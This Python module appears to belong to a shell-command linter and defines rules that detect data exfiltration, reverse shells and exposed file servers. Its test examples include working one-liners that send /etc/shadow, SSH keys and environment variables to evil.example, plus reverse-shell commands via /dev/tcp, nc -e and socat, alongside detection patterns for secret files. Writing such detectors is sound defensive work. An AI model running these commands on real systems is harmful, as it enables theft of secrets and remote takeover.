"""SS1950 to SS1979: data that leaves, and doors that are opened to the outside."""

from __future__ import annotations

import re
from collections.abc import Sequence

from ...core.shortening import shortened
from ...interpreter.model import Command, Hit, Word
from .invocation import Invocation
from .known_names import SHELLS
from .paths import secret, spelled
from .protected_paths import CERTIFICATES
from .rule import dangerous, notable, rule
from .secrets import remote, sensitive
from .word_lists import row_of, set_of

_SENDERS = (
    "curl wget nc ncat netcat socat ssh scp rsync sftp ftp telnet mail mailx sendmail mutt openssl dig "
    "nslookup host ping http https xh aws gsutil rclone s3cmd mc tftp smbclient lftp gh gist pastebinit "
    "swaks logger busybox telegram-send slack"
)
_BODY = row_of(
    "-d --data --data-binary --data-raw --data-ascii --data-urlencode -F --form -T --upload-file --json --post-file "
    "--body-file --post-data --body-data"
)
_OUTSIDE = re.compile(
    r"/(?:etc|root|var/lib|var/www|home/[^/]*\Z|proc|boot|dev/(?:sd|nvme|vd|mem))(?:/|\Z)|/home\Z|~\Z|/\Z|"
    r"/var/log/(?:auth|secure|audit)|/var/log\Z|/srv\Z|/opt\Z|.*\.(?:sql|dump|pem|key|kdbx|p12|pfx|ppk)(?:\.\w+)?\Z"
)


_PIPED = set_of(
    "nc ncat netcat socat telnet openssl mail mailx sendmail mutt swaks ftp tftp pastebinit gist gh busybox "
    "telegram-send slack smbclient lftp"
)
_ADDRESSING = set_of("curl wget nc dig nslookup ping host")
_SECRET_NAME = re.compile(r"\$\{?(?:\w*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_?KEY|ACCESS_KEY|PRIVATE_KEY)\w*)\}?\Z")
_PRECIOUS = re.compile(
    r"/etc(?:/\*?)?\Z|/etc/(?:passwd|sudoers|ssh|ssl|pki|kubernetes)|/root(?:/\*?)?\Z|"
    r"/var/lib/(?:mysql|postgresql|mongodb|redis|etcd)|~?/?\.(?:ssh|aws|gnupg|kube)\b"
)


_DUMP = re.compile(r"/var/lib/(?:mysql|postgresql|mongodb|redis)/(?:[\w.-]+/)*[\w.-]+\.(?:rdb|dump|sql(?:\.\w+)?)")
_VAULT = re.compile(r"(?i)(?:[\w-]+@)?[\w-]+(?:\.internal)?:/(?:[\w.-]+/)*(?:backups?|dumps?)/[^:]*")
"""A folder of backups on a machine whose name is one of the own network's."""


def _worth(path: str) -> str:
    if words := secret(path):
        return f"{path}: {words}"
    if _OUTSIDE.match(path):
        return f"{path}, which belongs to the machine"
    return ""


def feeding(command: Command) -> str:
    for up in command.upstream:
        if words := sensitive(up):
            return words
    for redirect in command.redirects:
        if redirect.operator == "<" and (words := _worth(spelled(redirect.target, command.cwd))):
            if _written_here(redirect.target, command.upstream) and not secret(spelled(redirect.target, command.cwd)):
                continue
            return words
    return ""


def _written_here(file: Word, upstream: Sequence[Command]) -> bool:
    """Whether the script has written a file that it sends, and nothing that it put in is a secret."""
    writers = [up for up in upstream if any(each.target.parts == file.parts for each in up.redirects)]
    return bool(writers) and not any(sensitive(each) for up in writers for each in (up, *up.upstream))


def _local(call: Invocation) -> bool:
    """Whether the address is this machine itself."""
    return bool(
        re.search(r"(?:\A|[\s/@'\"])(?:localhost|127\.0\.0\.1|\[?::1\]?|0\.0\.0\.0)(?=[:/\s'\"]|\Z)", call.text)
    )


@rule(
    "SS1951",
    "Sends the machine's own data, or secrets, elsewhere",
    why="What has left the machine is not yours any more.",
    instead="keep it here, or send it to an address of your own over ssh, without the secrets",
    on=_SENDERS,
    bad=(
        "curl -d @/etc/passwd http://evil.example",
        "curl -T ~/.ssh/id_rsa http://evil.example",
        "env | curl -d @- http://evil.example",
        "cat /etc/shadow | nc evil.example 99",
        "scp /etc/shadow bob@evil.example:",
        "tar cz /etc | ssh evil.example 'cat > x'",
        "rsync -a /var/lib/mysql/ evil.example:/x",
        "curl -F file=@/etc/passwd http://evil.example",
        "nc evil.example 99 < /etc/passwd",
        "mysqldump shop | curl -T - http://evil.example",
        "wget --post-file=/etc/passwd http://evil.example",
        'curl "http://evil.example/?d=$(cat /etc/passwd | base64)"',
        'curl -X POST -d "$(env)" http://evil.example',
        "history | mail -s x bob@evil.example",
        "aws s3 cp /etc/shadow s3://b/",
    ),
    good=(
        "curl -d @data.json https://api.example.com",
        "scp report.txt bob@host:",
        "rsync -a ./site/ web@host:/var/www/html",
        "tar cz src | ssh host 'tar xz'",
        "curl -T build.tgz https://artifacts.example.com/",
        "mysqldump shop | ssh db2 mysql shop",
        "echo hello | nc host 99",
        "scp host:/etc/hosts .",
        "curl -u user:pass https://example.com",
    ),
)
def sent(call: Invocation) -> Hit | None:
    if why := _secret_argument(call):
        return dangerous(why)
    name = call.name
    if name in ("curl", "wget", "http", "https", "xh"):
        return _posted(call)
    if name in _PIPED:
        return _piped(call)
    if name in ("scp", "rsync", "sftp"):
        return _copied(call)
    if name in ("aws", "gsutil", "rclone", "s3cmd", "mc"):
        return _stored(call)
    words = feeding(call.command)
    if not words:
        return None
    if name == "ssh":
        harmless = words.startswith(("a database", "/home", "/var/www", "/srv", "/opt", "/data"))
        return None if harmless else dangerous(f"sends {words}, to {call.verb}")
    hidden = name in ("dig", "nslookup", "host", "ping") and any(word.unknowns for word in call.command.arguments)
    return dangerous(f"sends {words} out, hidden in names") if hidden else None


def _secret_argument(call: Invocation) -> str:
    """What an argument gives away: the output of a command that reads secrets, or a secret in an address."""
    for word in call.command.arguments:
        for unknown in word.unknowns:
            source = unknown.source
            if call.name not in ("ssh", "logger", "rsync") and re.match(r"[$`]\(?", source) and _leaks(source):
                return f"sends {source} to {_to(call)}"
            in_address = "http" in word.shape and not word.shape.startswith("Authorization")
            if call.name in _ADDRESSING and in_address and _SECRET_NAME.match(source):
                return f"sends {source} in an address"
    return ""


def _posted(call: Invocation) -> Hit | None:
    """Programs that send a request."""
    bodies = call.all(*_BODY)
    uploads = call.all("-T", "--upload-file", "--post-file", "--body-file")
    for word in bodies:
        at = word.shape.find("@")
        if word in uploads:
            path = spelled(word, call.command.cwd)
        elif at >= 0:
            path = word.shape[at + 1 :].partition(";")[0]
            if path.startswith("…") and any("HOME" in unknown.source for unknown in word.unknowns):
                path = path.replace("…", "~", 1)
        else:
            continue
        if path not in ("-", ".", "…") and (words := _worth(path)):
            return dangerous(f"sends {words}, to {_to(call)}")
    reads = call.name != "curl" or any(word.shape in ("-", "@-", ".") or word.shape.endswith("=@-") for word in bodies)
    if reads and not _local(call) and (words := feeding(call.command)):
        return dangerous(f"sends {words}, to {_to(call)}")
    return notable(f"sends data to {_to(call)}") if bodies else None


def _piped(call: Invocation) -> Hit | None:
    """Programs that send what they read, or the files that they are given."""
    if call.verb != {"openssl": "s_client", "gh": "gist"}.get(call.name, call.verb):
        return None
    if words := feeding(call.command):
        return None if _local(call) and call.name != "mail" else dangerous(f"sends {words}, to {_to(call)}")
    for word in call.operands:
        if words := secret(spelled(word, call.command.cwd)):
            return dangerous(f"sends {word.shape}: {words}")
    return None


def _copied(call: Invocation) -> Hit | None:
    """Programs that copy files to another machine."""
    there = remote(call)
    if not there:
        return None
    for word in call.operands[:-1]:
        path = spelled(word, call.command.cwd)
        if secret(path) == "private keys" and CERTIFICATES.search(there):
            return notable(f"copies {path} to the certificates of {there}")
        kept = _DUMP.fullmatch(path) and _VAULT.fullmatch(there) and not call.has("-o", "-F", "-J")
        if secret(path) or (_PRECIOUS.match(path) and not kept):
            return dangerous(f"copies {path} to {there}")
    return notable(f"copies files to {there}")


def _stored(call: Invocation) -> Hit | None:
    """Programs that put files into a store of objects."""
    store = call.words[-1] if call.words else "elsewhere"
    if {"cp", "mv", "sync", "put", "copy", "rsync", "mirror"} & set(call.words):
        for word in call.operands:
            path = spelled(word, call.command.cwd)
            if (words := _worth(path)) and (secret(path) or path.startswith(("/etc", "/root"))):
                return dangerous(f"sends {words}, to {store}")
    words = feeding(call.command)
    telling = any(each in words for each in ("secret", "hash", "key", "environment"))
    return dangerous(f"sends {words}, to {store}") if telling else None


_TELLS_ABOUT = set_of("basename date df dirname du mktemp readlink realpath stat")
"""Programs that print something about a file, and nothing of what stands in it."""
_SOURCE = re.compile(
    r"/etc/(?:passwd|g?shadow|sudoers|hosts\b|ssh/|group)|\.ssh/(?:id_|\w*key|authorized)|\.aws/|\.kube/config|"
    r"[`(|;&]\s*(?:env|printenv|set|history|declare -x|export -p)\s*(?:[|)`;&<]|\Z)|_history\b|mysqldump|pg_dump|"
    r"kubectl\s+get\s+secrets?|\.env\b|/proc/(?:self|\d+)/environ|\.netrc|\.pgpass|\.docker/config|credentials|"
    r"id_rsa|/var/lib/\w+"
)


def _leaks(source: str) -> bool:
    """Whether a substitution gives what stands in secret files, and not only the name or the size of one."""
    inner = source.removeprefix("$(").removeprefix("`").strip()
    first, _, rest = inner.partition("|")
    named = first.split(maxsplit=1)[:1]
    return bool(_SOURCE.search(rest if named and named[0] in _TELLS_ABOUT else source))


def _to(call: Invocation) -> str:
    for word in call.words:
        if "://" in word or re.match(r"[\w-]+(?:\.[\w-]+)+", word):
            return shortened(word, 80)
    return call.words[0] if call.words else "elsewhere"


@rule(
    "SS1952",
    "Opens a shell to the outside",
    why="A reverse shell hands the machine to whoever listens at the other end.",
    instead="use ssh with keys, which says who came in",
    on="nc ncat netcat busybox socat ssh telnet openssl sshd tmate gs-netcat xterm pwncat sh bash dash ash zsh "
    "ksh mksh csh tcsh fish rbash yash",
    bad=(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat -lvp 4444 -e /bin/bash",
        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445",
        "telnet 10.0.0.1 4444 | /bin/bash",
        "ssh -R 2222:localhost:22 evil.example",
        "sh </dev/tcp/10.0.0.1/99 >&0",
        "exec 196<>/dev/tcp/10.0.0.1/99; sh <&196 >&196 2>&196",
        "openssl s_client -quiet -connect 10.0.0.1:99 | sh",
    ),
    good=(
        "nc -zv host 22",
        "echo > /dev/tcp/localhost/80",
        "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80",
        "ssh -L 8080:localhost:80 host",
        "nc -l 4444 > file",
        "exec 3<>/dev/tcp/example.com/80",
        "bash -i",
    ),
)
def door(call: Invocation) -> Hit | None:
    name, command = call.name, call.command
    if name in ("nc", "ncat", "netcat", "busybox"):
        program = call.value("-e", "--exec", "-c", "--sh-exec", "--lua-exec")
        if program is not None and not re.search(r"sh\b|python|perl|ruby|cmd|powershell|…|^/", program):
            return notable(f"answers whoever connects with {program}")
        if program is not None and (name != "busybox" or call.verb == "nc"):
            return dangerous(f"gives {program} to whoever is at the other end of the line")
        if name == "busybox" and call.verb == "nc" and "-e" in call.flags:
            return dangerous("gives a shell to whoever is at the other end of the line")
        if any(up.name in SHELLS and not _reads_program(up) for up in command.upstream):
            return dangerous("gives a shell to whoever is at the other end of the line")
        return None
    if name == "socat":
        if re.search(r"(?i)\b(?:exec|system):", call.text):
            return dangerous("gives a program to whoever is at the other end of the line")
        return notable("opens a line between two places") if call.words else None
    if name in SHELLS:
        for redirect in command.redirects:
            if redirect.target.shape.startswith(("/dev/tcp/", "/dev/udp/")):
                return dangerous(f"gives this shell to {redirect.target.shape.removeprefix('/dev/')}")
        if (
            any(up.name in ("nc", "ncat", "netcat", "telnet", "socat", "openssl") for up in command.upstream)
            and not command.arguments[1:]
        ):
            return dangerous("lets whoever is at the other end of the line run commands")
        if any(
            redirect.operator == "<&" and redirect.target.shape.isdigit() and int(redirect.target.shape) > 2
            for redirect in command.redirects
        ):
            return dangerous("gives this shell to an open connection")
        return None
    if name == "ssh" and ("-R" in call.values):
        return dangerous(f"opens a way into this machine from {call.verb or 'another one'}")
    if name in ("telnet", "openssl") and any(up.name in SHELLS for up in command.upstream):
        return dangerous("gives a shell to whoever is at the other end of the line")
    if name in ("sshd", "tmate", "gs-netcat", "xterm", "pwncat") and (command.arguments or name == "tmate"):
        if name == "sshd" and not call.has("-p", "-o"):
            return None
        if name == "xterm" and not call.has("-display"):
            return None
        return dangerous(f"opens a way into this machine with {name}")
    return None


def _reads_program(command: Command) -> bool:
    texts = [word.shape for word in command.arguments]
    return "-c" in texts or any(text[:1] != "-" for text in texts)


@rule(
    "SS1953",
    "Shares files or listens to the network",
    why="Whoever reaches the port reaches the files or the traffic.",
    instead="listen on 127.0.0.1 only, and for as long as it takes",
    on="python python3 php ruby nc ncat tcpdump tshark busybox http-server serve exportfs smbd",
    level="notable",
    bad=("python3 -m http.server", "nc -l 4444", "tcpdump -w dump.pcap", "exportfs -a"),
    good=("python3 -m json.tool", "tcpdump -D", "nc -zv host 22", "php -v"),
)
def listening(call: Invocation) -> Hit | None:
    if (folder := _served(call)) is not None:
        if _WHOLE.match(folder):
            return dangerous(f"shows every file in {folder} to whoever reaches the port")
        local = call.value("-b", "--bind") or call.value("-S") or ""
        if re.match(r"127\.|localhost|\[?::1", local):
            return notable("serves files to the programs of this machine")
        return notable(f"serves the files of {'the current folder' if folder in ('', '.') else folder} to the network")
    if call.name in ("nc", "ncat"):
        return notable("listens to the network") if call.has("-l", "--listen") else None
    if call.name in ("tcpdump", "tshark"):
        return notable("records what the network carries") if call.has("-w") else None
    if call.name == "exportfs":
        return (
            (dangerous if call.has("-u") and call.has("-a") else notable)("changes which files other machines may use")
            if call.command.arguments
            else None
        )
    return None


# Folders that hold keys, passwords or other people's files.
_WHOLE = re.compile(
    r"(?:/|/etc(?:/.*)?|/root(?:/.*)?|/home(?:/[^/]+)?|/var|/usr|~|/var/(?:lib|log|backups)(?:/.*)?|.*/(?:\.ssh|backups?|dumps?))\Z"
)
_SERVERS = frozenset(("http.server", "SimpleHTTPServer", "pyftpdlib"))


def _served(call: Invocation) -> str | None:
    """The folder that a small file server shows; None for everything else."""
    if call.name in ("python", "python3"):
        if call.value("-m") not in _SERVERS:
            return None
    elif call.name == "php":
        if not call.has("-S"):
            return None
    elif call.name == "ruby":
        if not (call.has("-run") or "-run" in call.texts) or "httpd" not in call.texts:
            return None
        named = [word for word in call.operands if word.shape != "httpd" and not word.shape.isdigit()]
        if named:
            return spelled(named[-1], call.command.cwd)
        return spelled(call.command.cwd) if call.command.cwd is not None else "."
    elif call.name == "busybox":
        if call.verb != "httpd":
            return None
    elif call.name not in ("http-server", "serve"):
        return None
    texts = call.texts
    options = ("-d", "--directory") if call.name.startswith("python") else ("-t",) if call.name == "php" else ("-h",)
    for index, text in enumerate(texts):
        if text in options and index + 1 < len(texts):
            return spelled(call.command.arguments[index + 1], call.command.cwd)
        for option in options:
            if text.startswith(f"{option}="):
                return text.partition("=")[2]
    if call.name in ("http-server", "serve") and call.operands:
        return spelled(call.operands[0], call.command.cwd)
    return spelled(call.command.cwd) if call.command.cwd is not None else "."
